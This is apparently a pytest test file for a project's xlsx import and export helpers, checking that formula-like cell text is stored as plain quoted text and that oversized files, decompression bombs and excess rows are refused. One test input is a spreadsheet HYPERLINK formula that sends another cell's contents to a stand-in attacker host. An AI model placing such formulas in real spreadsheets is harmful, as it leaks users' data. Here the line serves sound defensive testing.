import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from minxin.core import spreadsheets
from minxin.core.errors import ValidationFailed

ATTACK = '=HYPERLINK("http://evil.example/?"&K2,"点击查看")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def _save(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize("write_only", [True, False])
@pytest.mark.parametrize("text", [ATTACK, "=***", "+86 170", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_written_as_quoted_text(write_only, text):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    ws.append(spreadsheets.row(ws, [text, 42, "普通文本"]))
    content = _save(wb)
    assert "<f>" not in _sheet_xml(content)
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_other_values_keep_their_types():
    wb = Workbook()
    ws = wb.active
    ws.append(spreadsheets.row(ws, [-5, 3.5, None, "张*"]))
    values = [c.value for c in load_workbook(io.BytesIO(_save(wb))).active[1]]
    assert values == [-5, 3.5, None, "张*"]


def _xlsx(rows: int, *, text: str = "x", declared: bool = True) -> bytes:
    """A sheet of `rows` rows; a write-only workbook declares no size (no <dimension>)."""
    wb = Workbook(write_only=not declared)
    ws = wb.active if declared else wb.create_sheet("s")
    for i in range(rows):
        ws.append([i, text])
    return _save(wb)


def test_a_file_over_the_size_limit_is_refused_before_parsing(settings):
    settings.MINXIN_XLSX_MAX_BYTES = 2048
    with pytest.raises(ValidationFailed, match="超过上限") as exc:
        spreadsheets.open_workbook(io.BytesIO(_xlsx(2000)), name="台账.xlsx")
    assert exc.value.fields == {"file": ["文件过大"]}


def test_a_small_file_that_unpacks_too_large_is_refused_before_parsing(settings, monkeypatch):
    settings.MINXIN_XLSX_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = _xlsx(60000, text="重复" * 20, declared=False)  # compresses to a few hundred KB, unpacks to several MB
    assert len(bomb) < settings.MINXIN_XLSX_MAX_BYTES

    def must_not_parse(*args, **kwargs):
        raise AssertionError("parsed before the size check")

    monkeypatch.setattr(spreadsheets, "load_workbook", must_not_parse)
    with pytest.raises(ValidationFailed, match="解压后"):
        spreadsheets.open_workbook(io.BytesIO(bomb))


@pytest.mark.parametrize("content", [b"not a spreadsheet", b"PK\x03\x04broken", b""])
def test_a_file_that_is_not_xlsx_gets_a_chinese_error(content):
    with pytest.raises(ValidationFailed, match="xlsx"):
        spreadsheets.open_workbook(io.BytesIO(content))


def test_rows_beyond_the_limit_are_refused_by_the_declared_size(settings):
    settings.MINXIN_XLSX_MAX_ROWS = 10
    book = spreadsheets.open_workbook(io.BytesIO(_xlsx(12)))
    with pytest.raises(ValidationFailed, match="最多导入10行"):
        next(spreadsheets.data_rows(book.worksheets[0]))


def test_rows_beyond_the_limit_are_refused_while_reading_when_the_size_is_not_declared(settings):
    settings.MINXIN_XLSX_MAX_ROWS = 10
    content = _xlsx(12, declared=False)
    assert "<dimension" not in _sheet_xml(content)
    book = spreadsheets.open_workbook(io.BytesIO(content))
    rows = spreadsheets.data_rows(book.worksheets[0])
    assert [n for n, _v in zip(range(11), rows)] == list(range(11))  # header + 10 rows are fine
    with pytest.raises(ValidationFailed, match="最多导入10行"):
        next(rows)


def test_rows_within_the_limit_are_read(settings):
    settings.MINXIN_XLSX_MAX_ROWS = 11
    book = spreadsheets.open_workbook(io.BytesIO(_xlsx(12)))
    assert [n for n, _values in spreadsheets.data_rows(book.worksheets[0])] == list(range(1, 13))


def test_a_path_is_accepted_too(tmp_path):
    path = tmp_path / "t.xlsx"
    path.write_bytes(_xlsx(3))
    book = spreadsheets.open_workbook(path)
    assert [v for _n, v in spreadsheets.data_rows(book.worksheets[0])] == [(0, "x"), (1, "x"), (2, "x")]


def test_opening_a_sheet_without_a_declared_size_does_not_parse_its_rows(monkeypatch):
    from openpyxl.worksheet import _reader

    def whole_sheet_scan(*args, **kwargs):
        raise AssertionError("the sheet was parsed to find a <dimension> it does not have")

    monkeypatch.setattr(_reader.WorkSheetParser, "parse_dimensions", whole_sheet_scan)
    undeclared = spreadsheets.open_workbook(io.BytesIO(_xlsx(50, declared=False))).worksheets[0]
    declared = spreadsheets.open_workbook(io.BytesIO(_xlsx(50))).worksheets[0]
    assert undeclared._max_row is None and declared.max_row == 50
    assert len(list(spreadsheets.data_rows(undeclared))) == 50
